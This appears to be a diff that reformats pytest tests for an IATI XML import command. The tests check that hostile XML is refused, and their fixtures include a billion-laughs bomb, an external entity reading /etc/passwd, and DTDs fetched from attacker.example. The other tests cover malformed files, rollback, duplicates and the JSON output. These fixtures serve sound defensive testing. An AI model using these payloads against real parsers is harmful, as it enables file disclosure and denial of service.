@@ -33,8 +33,7 @@ BILLION_LAUGHS = """<!DOCTYPE lolz [
 
 
 def hostile_document(activity, prolog: str, title: str) -> str:
-    return (f'<?xml version="1.0"?>\n{prolog}<iati-activities version="2.03">'
-            f"{activity(title=title)}</iati-activities>")
+    return f'<?xml version="1.0"?>\n{prolog}<iati-activities version="2.03">{activity(title=title)}</iati-activities>'
 
 
 def nothing_written():
@@ -60,16 +59,23 @@ def no_network(monkeypatch):
     return attempts
 
 
-@pytest.mark.parametrize(("name", "prolog", "title"), [
-    ("billion-laughs.xml", BILLION_LAUGHS, "&lol9;"),
-    ("quadratic.xml", f'<!DOCTYPE r [<!ENTITY a "{"x" * 50_000}">]>\n', "&a;" * 2_000),
-    ("external-entity.xml", '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', "&xxe;"),
-    ("external-dtd.xml", '<!DOCTYPE iati-activities SYSTEM "http://attacker.example/iati.dtd">\n', "Migration"),
-    ("parameter-entity.xml",
-     '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>\n', "Migration"),
-])
-def test_hostile_xml_is_refused_without_expanding_or_fetching_anything(iati_file, activity, no_network,
-                                                                       name, prolog, title):
+@pytest.mark.parametrize(
+    ("name", "prolog", "title"),
+    [
+        ("billion-laughs.xml", BILLION_LAUGHS, "&lol9;"),
+        ("quadratic.xml", f'<!DOCTYPE r [<!ENTITY a "{"x" * 50_000}">]>\n', "&a;" * 2_000),
+        ("external-entity.xml", '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', "&xxe;"),
+        ("external-dtd.xml", '<!DOCTYPE iati-activities SYSTEM "http://attacker.example/iati.dtd">\n', "Migration"),
+        (
+            "parameter-entity.xml",
+            '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>\n',
+            "Migration",
+        ),
+    ],
+)
+def test_hostile_xml_is_refused_without_expanding_or_fetching_anything(
+    iati_file, activity, no_network, name, prolog, title
+):
     path = iati_file(name, text=hostile_document(activity, prolog, title))
     report = import_iati_files([path], keep_all=True)
     assert only_error(report)[3] == DTD_REFUSED
@@ -91,13 +97,15 @@ def test_the_command_names_the_file_that_carries_a_dtd(iati_file, activity):
     assert f"{path}:2: {DTD_REFUSED}" in output.getvalue()
 
 
-def test_malformed_xml_half_way_leaves_nothing_of_that_file_while_earlier_files_stay(iati_file, activity,
-                                                                                      monkeypatch):
+def test_malformed_xml_half_way_leaves_nothing_of_that_file_while_earlier_files_stay(iati_file, activity, monkeypatch):
     monkeypatch.setattr(services, "BATCH_SIZE", 1)  # the activities before the error are written, then undone
     good = iati_file("a-good.xml", activity("XI-IATI-EC_INTPA-GOOD"))
-    broken_text = ('<?xml version="1.0"?>\n<iati-activities version="2.03">'
-                   + activity("XI-IATI-EC_INTPA-B1") + activity("XI-IATI-EC_INTPA-B2")
-                   + "\n<iati-activity><iati-identifier>B3</iati-identifier><title></iati-activity>")
+    broken_text = (
+        '<?xml version="1.0"?>\n<iati-activities version="2.03">'
+        + activity("XI-IATI-EC_INTPA-B1")
+        + activity("XI-IATI-EC_INTPA-B2")
+        + "\n<iati-activity><iati-identifier>B3</iati-identifier><title></iati-activity>"
+    )
     broken = iati_file("b-broken.xml", text=broken_text)
     report = import_iati_files([good, broken], keep_all=True)
     file, line, identifier, reason = only_error(report)
@@ -111,8 +119,12 @@ def test_malformed_xml_half_way_leaves_nothing_of_that_file_while_earlier_files_
 
 def test_organisations_created_by_a_failing_file_are_rolled_back(iati_file, activity):
     unknown = ("XM-DAC-5-7", "10", "Germany - Federal Foreign Office")
-    broken = iati_file("broken.xml", text='<?xml version="1.0"?>\n<iati-activities version="2.03">'
-                       + activity("XM-DAC-5-7-1", reporting=unknown) + "\n<iati-activity>")
+    broken = iati_file(
+        "broken.xml",
+        text='<?xml version="1.0"?>\n<iati-activities version="2.03">'
+        + activity("XM-DAC-5-7-1", reporting=unknown)
+        + "\n<iati-activity>",
+    )
     organisations = Organisation.objects.count()
     report = import_iati_files([broken], keep_all=True)
     assert report.failed_files == 1
@@ -120,11 +132,16 @@ def test_organisations_created_by_a_failing_file_are_rolled_back(iati_file, acti
 
 
 def test_a_file_with_the_wrong_root_element_is_refused(iati_file):
-    path = iati_file("organisation.xml", text='<?xml version="1.0"?>\n<iati-organisations version="2.03">'
-                     "<iati-organisation/></iati-organisations>")
+    path = iati_file(
+        "organisation.xml",
+        text='<?xml version="1.0"?>\n<iati-organisations version="2.03"><iati-organisation/></iati-organisations>',
+    )
     assert only_error(import_iati_files([path])) == (
-        str(path), 2, "", "the root element is <iati-organisations>, not <iati-activities>: "
-                          "this is not an IATI activity file")
+        str(path),
+        2,
+        "",
+        "the root element is <iati-organisations>, not <iati-activities>: this is not an IATI activity file",
+    )
 
 
 def test_a_path_that_does_not_exist_is_reported(tmp_path):
@@ -137,16 +154,25 @@ def test_an_activity_without_identifier_is_rejected_while_the_others_are_importe
     report = import_iati_files([path], keep_all=True)
     assert only_error(report) == (str(path), 10, "", "the activity has no iati-identifier")
     assert sorted(Engagement.objects.unrestricted("test").values_list("iati_identifier", flat=True)) == [
-        "XI-IATI-EC_INTPA-1", "XI-IATI-EC_INTPA-3"]
+        "XI-IATI-EC_INTPA-1",
+        "XI-IATI-EC_INTPA-3",
+    ]
     assert (report.activities_read, report.created, report.failed_files) == (3, 2, 0)
 
 
 def test_a_duplicate_identifier_in_one_file_is_named_and_only_the_first_is_kept(iati_file, activity):
-    path = iati_file("twice.xml", activity("XI-IATI-EC_INTPA-1", title="First migration project"),
-                     activity("XI-IATI-EC_INTPA-1", title="Second migration project"))
+    path = iati_file(
+        "twice.xml",
+        activity("XI-IATI-EC_INTPA-1", title="First migration project"),
+        activity("XI-IATI-EC_INTPA-1", title="Second migration project"),
+    )
     report = import_iati_files([path], keep_all=True)
-    assert only_error(report) == (str(path), 10, "XI-IATI-EC_INTPA-1", "the iati-identifier XI-IATI-EC_INTPA-1 "
-                                  "appears earlier in this file: only its first occurrence is imported")
+    assert only_error(report) == (
+        str(path),
+        10,
+        "XI-IATI-EC_INTPA-1",
+        "the iati-identifier XI-IATI-EC_INTPA-1 appears earlier in this file: only its first occurrence is imported",
+    )
     assert Engagement.objects.unrestricted("test").get().title == "First migration project"
 
 
@@ -162,7 +188,10 @@ def test_unparseable_dates_numbers_and_currencies_are_flagged_on_the_engagement(
     engagement = Engagement.objects.unrestricted("test").get()
     assert report.errors == [] and report.findings["error"] == 3
     assert [(f["tier"], f["field"]) for f in engagement.import_findings] == [
-        ("error", "activity-date"), ("error", "budget"), ("error", "transaction")]
+        ("error", "activity-date"),
+        ("error", "budget"),
+        ("error", "transaction"),
+    ]
     assert engagement.actual_start is None
     assert list(engagement.money_lines.values_list("kind", "amount")) == [("disbursement", Decimal("250.50"))]
     assert list(engagement.country_shares.values_list("country__iso3", flat=True)) == ["MAR"]
@@ -174,10 +203,18 @@ def test_json_summary_is_the_last_line_and_names_each_error(iati_file, activity)
     call_command("import-iati", str(path), "--json", "--all", stdout=output)
     summary = json.loads(output.getvalue().strip().splitlines()[-1])
     assert summary == {
-        "files": 1, "activities_read": 2, "migration_relevant": 1, "created": 1, "updated": 0, "unchanged": 0,
-        "skipped": 0, "failed_files": 0, "findings": {"critical": 1, "error": 0, "warning": 0},
-        "errors": [{"file": str(path), "line": 10, "iati_identifier": "",
-                    "reason": "the activity has no iati-identifier"}],
+        "files": 1,
+        "activities_read": 2,
+        "migration_relevant": 1,
+        "created": 1,
+        "updated": 0,
+        "unchanged": 0,
+        "skipped": 0,
+        "failed_files": 0,
+        "findings": {"critical": 1, "error": 0, "warning": 0},
+        "errors": [
+            {"file": str(path), "line": 10, "iati_identifier": "", "reason": "the activity has no iati-identifier"}
+        ],
     }
 
 
@@ -189,7 +226,9 @@ def test_json_summary_still_ends_the_output_when_a_file_failed(iati_file, activi
         call_command("import-iati", str(good), str(old), "--json", stdout=output)
     summary = json.loads(output.getvalue().strip().splitlines()[-1])
     assert (summary["created"], summary["errors"][0]["reason"]) == (
-        1, "IATI version 1.01 is not supported: only 2.01–2.03")
+        1,
+        "IATI version 1.01 is not supported: only 2.01–2.03",
+    )
 
 
 def test_oversized_values_are_cut_or_refused_per_activity_never_failing_the_file(iati_file, activity):
